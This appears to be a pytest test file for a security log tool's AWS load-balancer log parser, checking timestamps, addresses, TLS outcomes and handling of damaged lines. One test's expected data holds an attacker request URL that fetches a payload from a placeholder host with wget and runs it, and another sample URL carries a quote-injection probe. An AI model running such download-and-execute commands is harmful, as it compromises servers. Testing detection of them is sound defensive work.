"""Application load balancers: requests, connections, what attackers send."""

from __future__ import annotations

from pathlib import Path

import msgspec
import pytest

from hikeshi.errors import Unreadable
from hikeshi.events.event import Event
from hikeshi.events.parsers import alb
from hikeshi.events.reading import parse, read
from hikeshi.events.source import Source

SAMPLES = Path(__file__).parents[2] / "samples" / "alb"


def sample(name: str) -> list[Event]:
    return [event for event in parse([SAMPLES / name]) if isinstance(event, Event)]


def test_a_request_lasts_from_its_arrival_to_the_answer() -> None:
    first = sample("access.log")[0]
    assert (first.ts_raw, first.ts_desc, first.ts_precision) == ("2026-11-06T14:20:00.160000Z", "received", "us")
    assert first.ts_end is not None
    assert first.ts_end - first.ts == 26_641
    assert first.duration_ms == 23.0


def test_a_request_says_who_asked_what_and_what_came_back() -> None:
    first = sample("access.log")[0]
    assert (first.src_ip, first.src_port, first.dst_ip, first.dst_port) == ("198.51.100.23", 2817, "10.0.14.23", 8080)
    assert (first.method, first.url) == ("GET", "https://shop.example.com:443/orders?id=1%22")
    assert (first.http_status, first.outcome, first.bytes, first.bytes_out) == (200, "success", 340, 3660)
    assert (first.account, first.region, first.dst_host) == ("111122223333", "ap-northeast-1", "shop.example.com")


def test_a_request_with_spaces_is_one_address() -> None:
    attack = sample("access.log")[1]
    assert attack.url == "http://192.0.2.80:80/shell?cd+/tmp;wget+ host.example/jaws;sh+/tmp/jaws"
    assert (attack.dst_ip, attack.duration_ms, attack.dst_host) == (None, None, "192.0.2.80")


def test_an_address_of_version_6_has_a_port_too() -> None:
    denied = sample("access.log")[2]
    assert (denied.src_ip, denied.src_port, denied.outcome) == ("2001:db8::7", 50514, "denied")


def test_fields_newer_than_the_parser_are_kept() -> None:
    assert msgspec.json.decode(sample("access.log")[2].attrs or b"")["more"] == ["newer than we know"]


def test_a_request_that_was_none_is_kept() -> None:
    nothing = sample("access.log")[3]
    assert (nothing.action, nothing.method, nothing.http_status, nothing.outcome) == ("request", None, 460, "failure")


def test_the_oldest_layout_has_the_time_of_the_answer_only() -> None:
    (old,) = sample("oldest.log")
    assert (old.ts_desc, old.ts_end, old.ts_raw) == ("completed", None, "2026-11-06T14:20:00.186641Z")


def test_connections_say_how_tls_was_agreed_on() -> None:
    good, refused, quantum = sample("connection.log")
    assert {event.source_variant for event in (good, refused, quantum)} == {"connection"}
    assert (good.outcome, good.dst_port, good.duration_ms) == ("success", 443, 4036.0)
    assert (refused.outcome, refused.error_code) == ("failure", "Failed:ClientCertUntrusted")
    assert quantum.src_ip == "2001:db8::7"


def test_lines_that_cannot_be_read_say_where() -> None:
    found = list(parse([SAMPLES / "damaged.log"]))
    places = [one.place if isinstance(one, Unreadable) else "event" for one in found]
    assert places == ["event", "line 2", "line 3", "line 4", "event"]


def test_a_line_too_long_for_a_request_is_not_looked_into() -> None:
    line = (SAMPLES / "access.log").read_bytes().splitlines()[0]
    _, endless, after = read(Source.of(b"\n".join([line, b'http "' + b"a" * 300_000, line])))
    assert isinstance(endless, Unreadable)
    assert "is no request" in endless.message
    assert isinstance(after, Event)


def test_a_time_alone_is_not_taken_for_a_connection() -> None:
    assert not alb.recognises(b"2026-11-06T14:20:00.103212Z web sshd[1]: Accepted publickey for root\n")


def test_real_lines_are_read_to_the_last(shared_data: Path) -> None:
    folder = shared_data / "aws-service-log-samples"
    if not folder.is_dir():
        pytest.skip("../shared/data/aws-service-log-samples is not here")
    found = list(parse([folder / "alb-access.log.gz"]))
    assert [type(event) for event in found] == [Event] * 44
    assert sum(event.src_ip == "20.78.123.34" for event in found if isinstance(event, Event)) > 40


def test_real_edge_cases_leave_only_the_other_balancers_line(shared_data: Path) -> None:
    path = shared_data / "aws-service-log-samples" / "elastic-alb-nlb-edge-cases.log"
    if not path.exists():
        pytest.skip("../shared/data/aws-service-log-samples is not here")
    found = list(parse([path], parser=alb))
    assert [one.place if isinstance(one, Unreadable) else one.source_variant for one in found] == [
        "access",
        "access",
        "line 3",
        "connection",
        "access",
    ]
